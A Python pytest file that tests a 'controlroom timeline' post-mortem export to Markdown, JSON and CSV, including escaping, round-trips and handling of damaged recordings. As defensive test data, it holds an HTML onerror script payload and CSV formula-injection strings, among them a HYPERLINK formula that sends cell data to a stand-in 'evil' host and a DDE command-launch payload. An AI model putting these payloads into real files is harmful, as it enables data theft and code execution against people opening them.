"""``controlroom timeline``: the post-mortem export, run as a user runs it
(``python -m controlroom``) on recordings written through the store's own writer.

No cluster is needed: the export reads only the recording. Each format is judged by what reads
it: the Markdown by its sections and a table whose rows keep six cells whatever the text holds,
the JSON by decoding its entries back into TimelineEntry, the CSV by the csv module.
"""

from __future__ import annotations

import csv
import io
import json
import os
import re
import subprocess
import sys
import time
from pathlib import Path

import msgspec
import pytest

from backends.timeline.entry import TimelineEntry
from backends.timeline.store import default_path
from tests.conftest import ROOT
from tests.timeline_entries import CRASH_WORDS, entry, recording, write

COMMAND = [sys.executable, "-m", "controlroom", "timeline"]
HOSTILE = 'pod a|b <img src=x onerror=alert(1)> *bold* `code` [link](http://x) "q", done\nnext'
"""Text a recording may hold (an event message, say): pipes, HTML, Markdown, quotes, a comma
and a line break."""


def run(*args: str, state: Path | None = None) -> subprocess.CompletedProcess[str]:
    environ = {k: v for k, v in os.environ.items() if not k.startswith("CONTROLROOM_")}
    extra = ["--state-dir", str(state)] if state is not None else []
    return subprocess.run([*COMMAND, *args, *extra], cwd=ROOT, capture_output=True, text=True,
                          timeout=120, env=environ, stdin=subprocess.DEVNULL)


def ok(out: subprocess.CompletedProcess[str]) -> str:
    assert out.returncode == 0, f"exit {out.returncode}\n{out.stdout}\n{out.stderr}"
    return out.stdout


def entries_with_hostile_text(t0: float) -> list[TimelineEntry]:
    return [*recording(t0),
            entry(t0 + 130, "event", "checkout-stable-7c9-x1", object_kind="Pod",
                  workload="Deployment/checkout-stable", app="checkout", change="BackOff",
                  severity="Warning", detail=HOSTILE),
            entry(t0 + 400, "alert", "PodCrashLooping", object_kind="Alert", app="checkout",
                  workload="Deployment/checkout-stable", change="resolved", after="resolved"),
            entry(t0 + 420, "rollout", "checkout-stable", app="checkout",
                  workload="Deployment/checkout-stable",
                  change="3/3 ready, 3 updated, 3 available, ReplicaSetUpdated -> "
                  "NewReplicaSetAvailable"),
            entry(t0 + 6, "rollout", "checkout-stable", app="checkout",
                  workload="Deployment/checkout-stable",
                  change="3/3 ready, 1 updated, 3 available, NewReplicaSetAvailable -> "
                  "ReplicaSetUpdated")]


def cells(line: str) -> list[str]:
    """A Markdown table row's cells, split on the pipes that are not escaped."""
    return [c.strip() for c in re.split(r"(?<!\\)\|", line.strip())[1:-1]]


def test_markdown_reads_as_a_post_mortem_draft(tmp_path: Path) -> None:
    t0 = time.time() - 1800
    path = write(tmp_path / "drill.timeline", entries_with_hostile_text(t0))
    text = ok(run(str(path), "--since", "1h", "--format", "md"))
    headings = [line for line in text.splitlines() if line.startswith("#")]
    assert headings == ["# Incident timeline: drill", "## Summary", "## What changed",
                        "## What fired", "## What we did", "## When it recovered",
                        "## Timeline"]
    sections = dict(zip(headings, re.split(r"^#+ .*$", text, flags=re.M)[1:], strict=True))
    assert "image checkout:1.4.2 -> checkout:1.5.0" in sections["## What changed"]
    assert CRASH_WORDS in sections["## What fired"]
    assert "controlroom: alice" in sections["## What we did"]
    recovered = sections["## When it recovered"]
    assert "resolved" in recovered and "-> NewReplicaSetAvailable" in recovered
    assert "-> ReplicaSetUpdated" not in recovered  # a rollout starting is no recovery
    assert "Every alert resolved by" in sections["## Summary"]
    table = [line for line in sections["## Timeline"].splitlines() if line.startswith("|")]
    assert len(table) == 2 + 9
    assert all(len(cells(line)) == 6 for line in table)
    hostile = next(line for line in table if "BackOff" in line)
    assert not re.search(r"(?<!\\)<img", hostile) and "\\<img" in hostile and "a\\|b" in hostile
    assert "\\*bold\\*" in hostile and "\\`code\\`" in hostile and "\\[link\\]" in hostile


def test_json_round_trips_every_entry_and_names_the_change_each_alert_followed(
        tmp_path: Path) -> None:
    t0 = time.time() - 1800
    original = entries_with_hostile_text(t0)
    path = write(tmp_path / "drill.timeline", original)
    doc = json.loads(ok(run(str(path), "--format", "json")))
    assert doc["format"] == "controlroom-timeline" and doc["context"] == "drill"
    decoded = msgspec.json.decode(json.dumps(doc["entries"]), type=list[TimelineEntry])
    assert decoded == sorted(original, key=lambda e: e.at)
    (followed,) = doc["correlations"]
    assert decoded[followed["alert"]].name == "PodCrashLooping"
    assert decoded[followed["change_index"]].change == "image checkout:1.4.2 -> checkout:1.5.0"
    assert followed["carried_by"]["revision"] == "abc123"
    assert followed["words"] == CRASH_WORDS


def test_csv_parses_back_to_the_exact_values(tmp_path: Path) -> None:
    t0 = time.time() - 1800
    original = sorted(entries_with_hostile_text(t0), key=lambda e: e.at)
    path = write(tmp_path / "drill.timeline", original)
    out = tmp_path / "timeline.csv"
    run_out = run(str(path), "--format", "csv", "-o", str(out))
    ok(run_out)
    assert "9 entries" in run_out.stderr
    parsed = list(csv.DictReader(io.StringIO(out.read_text(), newline="")))
    assert len(parsed) == len(original)
    for row, e in zip(parsed, original, strict=True):
        assert float(row["at"]) == e.at
        assert row["detail"] == e.detail and row["change"] == e.change
    assert [r["followed"] for r in parsed if r["followed"]] == [CRASH_WORDS]
    assert any(r["detail"] == HOSTILE for r in parsed)
    again = run(str(path), "--format", "csv", "-o", str(out))
    assert again.returncode == 2 and "already exists" in again.stderr
    ok(run(str(path), "--format", "md", "-o", str(out), "--force"))
    assert out.read_text().startswith("# Incident timeline")


def test_a_context_names_its_default_recording_and_since_keeps_earlier_causes(
        tmp_path: Path) -> None:
    """``--since`` after the image change: the alert in the range still names it."""
    t0 = time.time() - 7200
    write(default_path(tmp_path, "drill"), recording(t0))
    since = time.strftime("%Y-%m-%dT%H:%M:%SZ", time.gmtime(t0 + 60))
    doc = json.loads(ok(run("drill", "--since", since, "--format", "json", state=tmp_path)))
    assert [e["kind"] for e in doc["entries"]] == ["alert", "journal", "spec"]
    (followed,) = doc["correlations"]
    assert followed["words"] == CRASH_WORDS and followed["change_index"] is None
    missing = run("staging", state=tmp_path)
    assert missing.returncode == 2 and "no recording staging" in missing.stderr
    bad = run("drill", "--since", "yesterday-ish", state=tmp_path)
    assert bad.returncode == 2 and "--since" in bad.stderr and "Traceback" not in bad.stderr


def test_a_damaged_recording_is_a_clear_error_and_left_as_it_is(tmp_path: Path) -> None:
    garbage = tmp_path / "garbage.timeline"
    garbage.write_bytes(b"this is not a recording\n")
    out = run(str(garbage))
    assert out.returncode == 2 and out.stdout == ""
    assert f"timeline file {garbage}: not an SQLite database" in out.stderr
    path = write(tmp_path / "drill.timeline", recording(time.time() - 600) * 200)
    whole = path.read_bytes()
    cut = tmp_path / "cut.timeline"
    cut.write_bytes(whole[: len(whole) // 2])
    out = run(str(cut))
    assert out.returncode == 2 and "truncated" in out.stderr and "Traceback" not in out.stderr
    assert cut.read_bytes() == whole[: len(whole) // 2]
    damaged = tmp_path / "damaged.timeline"
    middle = len(whole) // 2 - (len(whole) // 2) % 4096
    damaged.write_bytes(whole[:middle] + b"\xff" * 4096 + whole[middle + 4096:])
    out = run(str(damaged))
    assert out.returncode == 2 and out.stdout == ""
    assert f"timeline file {damaged}: corrupt" in out.stderr and "Traceback" not in out.stderr
    itself = run(str(path), "-o", str(path), "--force")
    assert itself.returncode == 2 and "is the recording itself" in itself.stderr
    assert path.read_bytes() == whole
    directory = run(str(tmp_path))
    assert directory.returncode == 2 and "a directory, not a timeline" in directory.stderr


def test_csv_rows_are_what_the_csv_module_writes() -> None:
    """The export writes each distinct value once through the csv module, column by column;
    every row must be byte for byte what ``csv.writer`` writes for the whole row."""
    from backends.timeline.export import CSV_COLUMNS, Span, to_csv, when

    odd = ["", " ", '"', ",", "a\nb", "a\r\nb", "a\rb", "x,y", 'say "hi"', "ümlaut", "trailing "]
    entries = [entry(1_800_000_000.0 + i, "event", text or "n", change=text, detail=text,
                     actor=odd[-1 - i]) for i, text in enumerate(odd)]
    span = Span(source="mem", context="drill", since=1_800_000_000.0, until=1_800_000_100.0)
    expected = io.StringIO()
    writer = csv.writer(expected)  # the module's defaults: RFC 4180
    writer.writerow(CSV_COLUMNS)
    for e in entries:
        writer.writerow([when(e.at), *msgspec.structs.astuple(e), ""])
    text = to_csv(entries, span)
    assert text == expected.getvalue()
    parsed = list(csv.reader(io.StringIO(text, newline="")))
    assert [row[CSV_COLUMNS.index("change")] for row in parsed[1:]] == odd


def test_an_alert_resolved_on_one_pod_and_firing_on_another_is_still_firing() -> None:
    from backends.timeline.export import Span, to_markdown

    t0 = 1_800_000_000.0
    alerts = [entry(t0 + i, "alert", "PodCrashLooping", object_kind="Alert",
                    change=f"{state} on {pod}", after=state)
              for i, (state, pod) in enumerate([("firing", "web-1"), ("firing", "web-2"),
                                                ("resolved", "web-1")])]
    span = Span(source="mem", context="drill", since=t0, until=t0 + 60)
    summary = to_markdown(alerts, span).split("## What changed")[0]
    assert "**Still firing at the end of the export**: PodCrashLooping." in summary
    resolved = to_markdown([*alerts, entry(t0 + 9, "alert", "PodCrashLooping",
                                           object_kind="Alert", change="resolved on web-2",
                                           after="resolved")], span)
    assert "Still firing" not in resolved and "Every alert resolved by" in resolved


def test_a_big_recording_is_checked_where_the_range_reads_it_and_says_so(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
        ) -> None:
    """Past CHECK_WHOLE_BYTES (a 48-hour file is gigabytes) the whole-file check is skipped
    for the pages the range reads, and stderr says so: never a silent "all is well"."""
    from backends.timeline import feed
    from cli import commands_timeline
    from cli.main import build_parser
    from cli.session import CommandState

    monkeypatch.setattr(feed, "CHECK_WHOLE_BYTES", 0)
    path = write(tmp_path / "drill.timeline", recording(time.time() - 600))
    args = build_parser().parse_args(["timeline", str(path), "--format", "json",
                                      "--state-dir", str(tmp_path)])
    assert commands_timeline.timeline(args, CommandState()) == 0
    out, err = capsys.readouterr()
    assert len(json.loads(out)["entries"]) == 5
    assert "only the pages this range needed were checked" in err


def test_csv_cells_a_spreadsheet_would_run_as_formulas_start_with_a_quote(
        tmp_path: Path) -> None:
    """Untrusted text opened in a spreadsheet: a cell starting with ``=``, ``+``, ``-``,
    ``@``, a tab or a carriage return is a formula there (``=HYPERLINK(...)`` in an event
    message). The export writes it with a single quote in front; the same characters
    anywhere else, and every other text, stay exactly as recorded."""
    t0 = time.time() - 1800
    formulas = ['=HYPERLINK("http://evil/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3",
                "@SUM(1,2)", "\t=1", "\r=1"]
    harmless = ["a=b", "1-2", "mail@example", " =padded", "3 +1"]
    original = [entry(t0 + i, "event", f"pod-{i}", object_kind="Pod", change="BackOff",
                      detail=text, actor=text, before=text)
                for i, text in enumerate([*formulas, *harmless])]
    path = write(tmp_path / "drill.timeline", original)
    out = tmp_path / "timeline.csv"
    ok(run(str(path), "--format", "csv", "-o", str(out)))
    text = out.read_bytes().decode()  # as written: a CR inside a value stays a CR
    parsed = list(csv.DictReader(io.StringIO(text, newline="")))
    by_name = {row["name"]: row for row in parsed}
    for i, text in enumerate(formulas):
        row = by_name[f"pod-{i}"]
        assert row["detail"] == row["actor"] == row["before"] == "'" + text, row
    for i, text in enumerate(harmless, start=len(formulas)):
        row = by_name[f"pod-{i}"]
        assert row["detail"] == row["actor"] == row["before"] == text, row
    # No cell of the file starts a formula (the times and numbers included).
    assert not [cell for row in csv.reader(io.StringIO(text, newline=""))
                for cell in row if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]


def test_times_in_csv_are_written_exactly_as_python_writes_them() -> None:
    """The CSV's times come from msgspec's float writer where its digits are ``repr``'s,
    and from ``repr`` wherever they might not be: never a different text."""
    from backends.timeline.columns import float_texts

    inside = [1_800_000_000.123456, 1796680575.3496575, 1.0001e-4, 9.99e15, 123.0, 0.1]
    assert float_texts(inside) == list(map(repr, inside))
    for odd in (1e-5, 1e16, 0.0, -1.5, float("nan"), float("inf")):
        values = [*inside, odd]
        assert float_texts(values) == list(map(repr, values))
